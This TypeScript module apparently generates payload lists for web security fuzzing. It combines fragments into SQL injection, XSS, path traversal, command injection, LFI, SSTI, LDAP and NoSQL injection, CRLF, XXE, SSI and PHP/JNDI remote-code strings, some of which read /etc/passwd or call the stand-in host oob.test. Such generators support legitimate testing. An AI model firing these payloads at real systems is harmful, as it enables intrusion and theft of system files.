/** Every combination of the parts, in order. */
const product = (...parts: readonly (readonly string[])[]): string[] =>
  parts.reduce<string[]>((made, part) => made.flatMap((start) => part.map((end) => start + end)), ['']);

const times = (text: string, counts: readonly number[]) => counts.map((count) => text.repeat(count));

const files = ['etc/passwd', 'etc/hosts', 'windows/win.ini', 'proc/self/environ', 'windows/system.ini'];
const commands = [
  ...['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ping -c 1 127.0.0.1', 'ls -la /'],
  ...['type C:\\windows\\win.ini', 'netstat -an'],
];

const sqlInjection = () =>
  product(
    ["'", '"', "')", "'))", '1', '-1'],
    [
      ...[' OR 1=1', ' AND 1=2', " OR 'a'='a", ' ORDER BY 99', ' UNION SELECT NULL,NULL'],
      ...[' UNION ALL SELECT user(),version()', '; SELECT pg_sleep(0)', ' AND SLEEP(0)'],
      ...[' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))', " WAITFOR DELAY '0:0:0'"],
    ],
    ['-- -', '#', '/*', ''],
  );

const crossSiteScripting = () =>
  product(
    ['<img src=x ', '<svg ', '<body ', '<video src=x ', '<details open ', '<input autofocus ', '<iframe ', '<marquee '],
    ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover'],
    ['=alert(1)>', '=alert(document.domain)>', '=confirm`1`>', '="prompt(1)"//'],
  );

const traversal = () =>
  ['../', '..\\', '%2e%2e/', '....//', '..%2f', '..%5c'].flatMap((up) => product(times(up, [3, 4, 5, 6]), files));

const commandInjection = () => [
  ...product(['', 'x', '"', "'"], [';', '|', '||', '&', '&&', '\n'], commands),
  ...commands.flatMap((command) => [`$(${command})`, `\`${command}\``, `x;${command};`]),
];

const inclusion = () =>
  product(['php://filter/convert.base64-encode/resource=', 'file:///', 'expect://', 'zip://', 'phar://', '/'], files, [
    '',
    '%00',
    '%00.jpg',
  ]);

const templateInjection = () => {
  const expressions = [
    ...['7*7', 'config', 'self', 'request.application', "''.__class__.__mro__", 'T(java.lang.Runtime)'],
    ...['system("id")', '_self.env'],
  ];
  const marks = ['{{', '}}', '$' + '{', '}', '<%= ', ' %>', '#{', '}', '*{', '}', '@(', ')'];
  return expressions.flatMap((expression) =>
    [0, 2, 4, 6, 8, 10].map((at) => `${marks[at]}${expression}${marks[at + 1]}`),
  );
};

const ldapInjection = () =>
  ['uid', 'cn', 'mail', 'sn', 'memberOf', 'objectClass', 'userPassword', 'description', 'ou', 'givenName'].flatMap(
    (name) => [`*)(${name}=*`, `${name}=*)(|(${name}=*`, `*))(|(${name}=*)`, `admin)(!(&(1=0)(${name}=*`],
  );

const noSqlInjection = () =>
  ['$ne', '$gt', '$regex', '$where', '$in', '$nin', '$exists', '$or'].flatMap((operator) => [
    `{"${operator}": null}`,
    `{"${operator}": ""}`,
    `[${operator}]=1`,
    `'; return this.a ${operator} '';`,
    `{"user": {"${operator}": "x"}, "password": {"${operator}": "x"}}`,
  ]);

const lineBreaks = () =>
  product(
    ['x%0d%0a', 'x\r\n', 'x%0a', 'x%E5%98%8A%E5%98%8D'],
    ['Set-Cookie: a=b', 'Location: http://site.test/', 'X-Injected: 1', 'Content-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK'],
  );

const externalEntities = () =>
  [
    'file:///etc/passwd',
    'file:///c:/windows/win.ini',
    'http://oob.test/x',
    'php://filter/resource=index.php',
    'gopher://oob.test/',
  ].flatMap((address) => [
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "${address}">]><a>&x;</a>`,
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "${address}"> %x;]><a/>`,
    `<?xml version="1.0"?><!DOCTYPE a SYSTEM "${address}"><a/>`,
  ]);

const serverSideIncludes = () =>
  product(
    ['<!--#exec cmd="', '<!--#include virtual="', '<!--#include file="', '<!--#echo var="'],
    ['id', '/etc/passwd', 'DATE_LOCAL', 'ls'],
    ['" -->'],
  );

const remoteCode = () => [
  ...product(
    ['<?php ', 'php -r ', 'eval(', ';', '"+', "'."],
    ["system('id')", 'phpinfo()', "passthru('ls')", "shell_exec('id')", "assert('1')", "popen('id','r')"],
    [';', ' ?>', ');//'],
  ),
  ...['jndi:ldap', 'jndi:rmi', 'jndi:dns', 'lower:j}ndi:ldap', '::-j}ndi:ldap', 'env:X:-j}ndi:ldap'].map(
    (scheme) => `\${${scheme}://oob.test/a}`,
  ),
];

const families: Readonly<Record<string, () => string[]>> = {
  'sql-injection': sqlInjection,
  xss: crossSiteScripting,
  'path-traversal': traversal,
  'command-injection': commandInjection,
  lfi: inclusion,
  ssti: templateInjection,
  'ldap-injection': ldapInjection,
  'nosql-injection': noSqlInjection,
  crlf: lineBreaks,
  xxe: externalEntities,
  ssi: serverSideIncludes,
  rce: remoteCode,
};

/** Payloads of a module made from the parts that such attacks consist of. They are texts: nothing of them runs. */
export const familyPayloads = (module: string): string[] => [...new Set(families[module]?.() ?? [])];
